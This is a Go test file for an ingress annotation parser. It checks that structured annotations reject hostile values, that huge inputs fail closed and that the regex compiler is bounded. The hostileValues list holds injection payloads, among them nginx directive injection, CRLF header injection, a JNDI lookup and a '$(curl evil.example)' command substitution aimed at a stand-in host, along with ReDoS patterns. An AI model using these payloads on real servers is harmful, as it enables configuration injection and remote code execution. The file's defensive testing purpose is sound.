package annotations

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
)

// freeText annotations accept arbitrary printable text as data (a header
// value to compare, an RE2 expression to match): a hostile value may be
// accepted, but only verbatim.
var freeText = map[string]bool{"canary-by-header-value": true, "canary-by-header-pattern": true, "auth-realm": true}

// hostileValues are injection attempts; no structured annotation may accept
// them.
var hostileValues = []string{
	`"; return 200;`,
	`/x"; return 200 "pwned`,
	"true\nserver_tokens off;",
	"10\r\nX-Injected: 1",
	"1;more_set_headers X: y",
	"${jndi:ldap://evil.example/a}",
	"$(curl evil.example)",
	"`id`",
	"/a\x00b",
	"}\nlocation / { return 200; }\n#",
	"lua_package_path '/tmp/?.lua';",
	"300.300.300.300/8",
	"http://evil.example/\u2028x",
	"https://evil.example/%0d%0aSet-Cookie:%20a=b x",
	"\u202e/evil",
}

// numericJunk must be rejected by every numeric annotation.
var numericJunk = []string{"99999999999999999999999999999999", "-99999999999999999999999999999999", "1e9", "0x10", "1.5", "+", "-", "٣"}

var numeric = map[string]bool{"limit-rps": true, "limit-rpm": true, "limit-connections": true, "limit-burst-multiplier": true,
	"proxy-connect-timeout": true, "proxy-read-timeout": true, "proxy-send-timeout": true, "proxy-body-size": true, "proxy-next-upstream-tries": true,
	"proxy-ssl-verify-depth": true, "cors-max-age": true, "canary-weight": true, "canary-weight-total": true, "session-cookie-max-age": true,
	"session-cookie-expires": true, "permanent-redirect-code": true, "temporal-redirect-code": true, "custom-http-errors": true}

// enablers turn on the feature of dependent annotations.
var enablers = map[string]map[string]string{
	FeatureCORS:         {"enable-cors": "true"},
	FeatureCanary:       {"canary": "true", "canary-by-header": "X-Canary"},
	FeatureAffinity:     {"affinity": "cookie"},
	FeatureBasicAuth:    {"auth-type": "basic", "auth-secret": "s"},
	FeatureExternalAuth: {"auth-url": "http://auth.example/", "auth-signin": "https://login.example/"},
	FeatureRateLimit:    {"limit-rps": "5"},
	FeatureUpstreamTLS:  {"backend-protocol": "HTTPS"},
	FeatureRedirect:     {"permanent-redirect": "https://a.example/", "temporal-redirect": "https://b.example/"},
}

func TestHostileValuesAreInert(t *testing.T) {
	for _, e := range Catalog() {
		if e.Dialect != DialectNginx || e.Status != StatusSupported {
			continue
		}
		values := hostileValues
		if numeric[e.Name] {
			values = append(slices.Clone(values), numericJunk...)
		}
		for _, v := range values {
			ann := map[string]string{}
			for k, ev := range enablers[e.Feature] {
				ann[DialectNginx.Key(k)] = ev
			}
			ann[e.Key] = v
			pol, ws := Parse(Input{Namespace: "ns", Annotations: ann, Paths: []string{"/"}}, Options{Dialect: DialectNginx})
			rejected := false
			for _, w := range ws {
				if w.Annotation == e.Key && w.Reason == ReasonInvalid {
					rejected = true
				}
				if strings.ContainsAny(w.Message, "\r\n\x00\u2028\u202e") {
					t.Errorf("%s=%q: warning message carries control characters: %q", e.Name, v, w.Message)
				}
			}
			js, err := json.Marshal(pol)
			if err != nil {
				t.Fatal(err)
			}
			if rejected {
				continue
			}
			if !freeText[e.Name] || strings.ContainsFunc(v, isControl) {
				t.Errorf("%s accepted hostile value %q: %s", e.Name, v, js)
				continue
			}
			if !strings.Contains(string(js), strings.Trim(mustJSON(t, v), `"`)) {
				t.Errorf("%s: free-text value %q not kept verbatim: %s", e.Name, v, js)
			}
		}
	}
}

func mustJSON(t *testing.T, v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestHugeValues(t *testing.T) {
	huge := strings.Repeat("1", 10<<20)
	ann := map[string]string{}
	for _, e := range Catalog() {
		if e.Dialect == DialectIngressLab && e.Status == StatusSupported && e.Name != "canary" {
			ann[e.Key] = huge
		}
	}
	pol, ws := Parse(Input{Namespace: "ns", Annotations: ann}, Options{})
	if len(ws) != len(ann) {
		t.Errorf("%d warnings for %d huge annotations", len(ws), len(ann))
	}
	for _, w := range ws {
		if w.Reason != ReasonInvalid || !strings.Contains(w.Message, "10485760 bytes") || len(w.Message) > 200 {
			t.Errorf("unexpected warning %s", w)
		}
	}
	// Security annotations fail closed; the rest is off.
	if pol.Denied == nil {
		t.Error("huge auth-url did not deny")
	}
	pol.Denied = nil
	if js := policyJSON(t, pol); js != `{"dialect":""}` {
		t.Errorf("huge values applied: %s", js)
	}
	// Just under the limit is inspected normally (and rejected by bounds).
	_, ws = Parse(Input{Annotations: map[string]string{"ingresslab.dev/limit-rps": strings.Repeat("9", DefaultMaxValueBytes)}}, Options{})
	if len(ws) != 1 || !strings.Contains(ws[0].Message, "out of range") {
		t.Errorf("%v", ws)
	}
}

func TestRegexLimits(t *testing.T) {
	for _, pat := range []string{
		`(a+)+$`,   // catastrophic for backtracking engines, linear in RE2
		`(x+x+)+y`, // idem
		`^(([a-z])+.)+[A-Z]([a-z])+$`,
		`(\w+\s?)*$`,
	} {
		re, err := compileRegex(pat, "")
		if err != nil {
			t.Fatalf("%s: %v", pat, err)
		}
		if re.MatchString(strings.Repeat("a", 100000)+"!") && pat == `(x+x+)+y` {
			t.Errorf("%s matched", pat)
		}
	}
	for _, pat := range []string{
		`((a{100}){100}){100}`,             // program size
		`(?:a{1000}){1000}`,                // repeat limits
		strings.Repeat("a", maxRegexLen+1), // length
		`[z-a]`,                            // RE2 syntax error
		`a(?=b)`,                           // PCRE lookahead
		`(a)\1`,                            // backreference
	} {
		if _, err := compileRegex(pat, ""); err == nil {
			t.Errorf("%.40s accepted", pat)
		} else if len(err.Error()) > 120 {
			t.Errorf("error echoes the expression: %v", err)
		}
	}
}
